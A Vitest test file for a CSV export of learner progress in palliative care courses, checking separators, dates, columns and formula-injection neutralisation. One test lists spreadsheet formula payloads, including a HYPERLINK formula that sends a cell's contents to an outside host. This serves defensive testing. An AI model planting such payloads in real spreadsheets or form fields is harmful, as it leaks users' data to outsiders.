import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { dashboardCsv, dueDate, type Dashboard } from '../../src/lib/dashboard-csv';

describe('dashboard CSV', () => {
	it('opens in a Dutch spreadsheet: semicolons, BOM, quotes around awkward names', () => {
		const d: Dashboard = {
			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
			assignments: [{ id: 'a', course: 'basis', due: '' }],
			learners: [
				{ id: '1', name: 'Zoë; "Jansens"', email: 'zoe@voorbeeld.be', lastActivity: '2026-11-23 10:00:00.000Z', courses: { basis: { percent: 40, steps: 2, tests: 0, certificate: false } } },
				{ id: '2', name: 'Luc', lastActivity: '', courses: {} },
				{ id: '3', name: 'Mira', lastActivity: '2026-03-05 10:00:00.000Z', courses: {} },
			],
			blocked: [],
			lessons: {},
			minGroup: 5,
			items: {},
			choices: {},
			selfCheck: {},
		};
		const csv = dashboardCsv(d, { basis: 'Basis palliatieve zorg' }, { learner: 'Cursist', email: 'E-mailadres (als gedeeld)', lastActivity: 'Laatste activiteit', certificate: 'certificaat', due: 'Uiterlijk op', yes: 'ja', no: 'nee' }, 'nl');
		expect(csv.startsWith('\uFEFFCursist;E-mailadres (als gedeeld);Laatste activiteit;Basis palliatieve zorg (%);Basis palliatieve zorg: certificaat;Basis palliatieve zorg: Uiterlijk op\r\n')).toBe(true);
		const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data;
		expect(parsed[1]).toEqual(['Zoë; "Jansens"', 'zoe@voorbeeld.be', '23/11/2026', '40', 'nee', '']);
		// A learner who did not share the address has an empty cell.
		expect(parsed[2]).toEqual(['Luc', '', '', '0', 'nee', '']);
		// Day and month always in two digits, so the column sorts and reads alike.
		expect(parsed[3]).toEqual(['Mira', '', '05/03/2026', '0', 'nee', '']);
	});

	it('cannot run a formula: cells starting with = + - @ tab or carriage return are neutralised (issue 18)', () => {
		const names = ['=1+1', '+31 470 12 34 56', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://example.org/?x="&A1;"klik")', '\t=1+1', '\r=1+1', 'An = gewoon'];
		const d: Dashboard = {
			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
			assignments: [{ id: 'a', course: 'basis', due: '' }],
			learners: names.map((name, i) => ({ id: String(i), name, email: `${name}@x.be`, lastActivity: '', courses: { basis: { percent: 10, steps: 1, tests: 0, certificate: false } } })),
			blocked: [],
			lessons: {},
			minGroup: 5,
			items: {},
			choices: {},
			selfCheck: {},
		};
		const csv = dashboardCsv(d, { basis: '=Basis' }, { learner: 'Cursist', email: 'E-mailadres (als gedeeld)', lastActivity: 'Laatste activiteit', certificate: 'certificaat', due: 'Uiterlijk op', yes: 'ja', no: 'nee' }, 'nl');
		const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
		expect(rows).toHaveLength(names.length + 1);
		for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
		// The text itself is kept, after the apostrophe a spreadsheet shows as plain text.
		expect(rows.slice(1).map((r) => r[0])).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
		// The e-mail column is neutralised the same way (an address is typed by the learner too).
		expect(rows.slice(1).map((r) => r[1])).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}@x.be` : `${n}@x.be`)));
		expect(rows[0]![3]).toBe("'=Basis (%)");
	});

	it('has three columns per assigned course (percentage, certificate, due date) in the order of the assignments; a course without a title shows its id; a certificate says yes', () => {
		const d: Dashboard = {
			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
			assignments: [
				{ id: 'a', course: 'basis', due: '' },
				{ id: 'b', course: 'praktijk', due: '2027-01-31 23:59:59.000Z' },
			],
			learners: [{ id: '1', name: 'An', lastActivity: '2026-12-07T08:00:00Z', courses: { praktijk: { percent: 100, steps: 9, tests: 9, certificate: true } } }],
			blocked: [],
			lessons: {},
			minGroup: 5,
			items: {},
			choices: {},
			selfCheck: {},
		};
		const csv = dashboardCsv(d, { basis: 'Basic palliative care' }, { learner: 'Learner', email: 'E-mail', lastActivity: 'Last activity', certificate: 'certificate', due: 'Due', yes: 'yes', no: 'no' }, 'en');
		const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
		expect(rows).toEqual([
			['Learner', 'E-mail', 'Last activity', 'Basic palliative care (%)', 'Basic palliative care: certificate', 'Basic palliative care: Due', 'praktijk (%)', 'praktijk: certificate', 'praktijk: Due'],
			['An', '', '07/12/2026', '0', 'no', '', '100', 'yes', '31/01/2027'],
		]);
	});

	it('a due date is the calendar day the trainer chose, in every time zone (the server stores the end of that day in UTC)', () => {
		expect(dueDate('2027-01-31 23:59:59.000Z', 'nl')).toBe('31/01/2027');
		expect(dueDate('2027-12-31 23:59:59.000Z', 'en')).toBe('31/12/2027');
		expect(dueDate('', 'nl')).toBe('');
		expect(dueDate('morgen', 'nl')).toBe('');
		// only a value that starts with a whole date is a date: no cell from half a date or text around one
		expect(dueDate('2027-01-3', 'nl')).toBe('');
		expect(dueDate('tot 2027-01-31', 'nl')).toBe('');
		// nor from what the browser's date reading would still take for one: a year with sign and six digits
		// ('+002027-01' reads as January 2027), or a day of one digit and a bracket ('2027-01-3(' reads as the 3rd)
		expect(dueDate('+002027-01-31', 'nl')).toBe('');
		expect(dueDate('2027-01-3(zo)', 'nl')).toBe('');
	});
});
